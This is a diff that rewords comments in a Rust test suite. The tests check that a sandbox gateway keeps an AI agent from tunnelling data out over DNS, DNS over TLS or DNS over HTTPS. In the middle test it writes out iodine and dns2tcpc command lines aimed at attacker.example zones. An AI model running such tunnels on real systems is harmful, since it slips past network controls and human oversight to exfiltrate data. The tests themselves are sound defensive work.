@@ -1,5 +1,5 @@
 //! DNS as the way out: an agent that would tunnel through names finds that none of the attacker's
-//! leaves the gateway. Every test ends with a name that is listed, which the capture must hold.
+//! names leaves the gateway. Every test ends with a listed name, which the capture must hold.
 
 use std::{
     process::{Command, Stdio},
@@ -46,7 +46,7 @@ fn a_thousand_attacker_names_leave_the_wan_silent() {
             let name = format!("{label}.{}", zone[number % zone.len()]);
             let kind = kinds[number % kinds.len()];
             let server = servers[number % servers.len()];
-            // By tens: every type is asked for over both.
+            // In tens, so that every type is asked for over both.
             let over_tcp = (number / kinds.len()).is_multiple_of(20);
             let asked = if over_tcp { ask_tcp } else { ask_udp };
             let answer = asked(AGENT, server, &query(&name, kind))
@@ -65,7 +65,7 @@ fn a_thousand_attacker_names_leave_the_wan_silent() {
         }
         assert!(world.dns.asked().is_empty(), "{:?}", world.dns.asked());
         assert!(!wan.holds("attacker"), "the attacker's name is on the WAN");
-        // The capture sees what there is to see.
+        // This shows that the capture sees such names.
         ask(anywhere(), OPENAI.name, RecordType::A);
         assert!(wan.holds("openai"));
         assert_eq!(world.dns.asked().len(), 2, "A and AAAA: {:?}", world.dns.asked());
@@ -77,7 +77,7 @@ fn tunnels_over_dns_find_nothing_to_ride_on() {
     sandboxed(|| {
         let world = World::with(&config(10_000));
         let wan = world.lab.capture(INTERNET);
-        // Each with a zone of its own, by which the audit tells who tried.
+        // Each tool has a zone of its own, by which the audit tells them apart.
         let [v4, v6] = [ATTACKER.v4().to_string(), ATTACKER.v6().to_string()];
         let lines = [
             format!("iodine -f -r -P secret {v4} i4.attacker.example"),
@@ -85,7 +85,7 @@ fn tunnels_over_dns_find_nothing_to_ride_on() {
             // Without -r it sends datagrams to the server itself, as soon as it can.
             format!("iodine -f -P secret {v4} u4.attacker.example"),
             format!("iodine -f -r -P secret -T TXT {v6} i6.attacker.example"),
-            // It knows of no IPv6.
+            // It does not support IPv6.
             format!("dns2tcpc -c -z d4.attacker.example {v4}"),
             format!("dns2tcpc -c -T KEY -k key -z key.attacker.example {v4}"),
         ];
@@ -100,7 +100,7 @@ fn tunnels_over_dns_find_nothing_to_ride_on() {
         std::thread::sleep(Duration::from_secs(6));
         for (line, child) in running {
             let mut child = child.unwrap_or_else(|error| panic!("{line}: {error}"));
-            // It may have given up by itself.
+            // The tool may have given up by itself.
             let _ = child.kill();
             let _ = child.wait();
         }
@@ -112,10 +112,10 @@ fn tunnels_over_dns_find_nothing_to_ride_on() {
             !holds(&ATTACKER.v4().octets()) && !holds(&ATTACKER.v6().octets()),
             "to the server"
         );
-        // The capture sees what there is to see.
+        // This shows that the capture sees such names.
         ask(anywhere(), OPENAI.name, RecordType::A);
         assert!(wan.holds("openai"));
-        // They did try: of the resolver that each was given.
+        // They did try, each at the resolver that it was given.
         let tried =
             [("i4", &v4), ("raw", &v4), ("u4", &v4), ("i6", &v6), ("d4", &v4), ("key", &v4)];
         for (zone, server) in tried {
@@ -129,7 +129,7 @@ fn tunnels_over_dns_find_nothing_to_ride_on() {
     });
 }
 
-/// DNS over TLS and over HTTPS are TLS to a name that is not listed, at a port that is (443) or is
+/// DNS over TLS and over HTTPS are TLS to an unlisted name, at a port that is listed (443) or is
 /// not (853).
 #[test]
 fn dns_inside_tls_to_an_unlisted_name_stays_inside() {
@@ -156,7 +156,7 @@ fn dns_inside_tls_to_an_unlisted_name_stays_inside() {
         assert!(!wan.holds("attacker"), "the attacker's name is on the WAN");
         assert!(world.dns.asked().is_empty(), "{:?}", world.dns.asked());
         world.origin.log().assert_untouched();
-        // The capture sees what there is to see.
+        // This shows that the capture sees such names.
         ask(anywhere(), OPENAI.name, RecordType::A);
         assert!(wan.holds("openai"));
     });
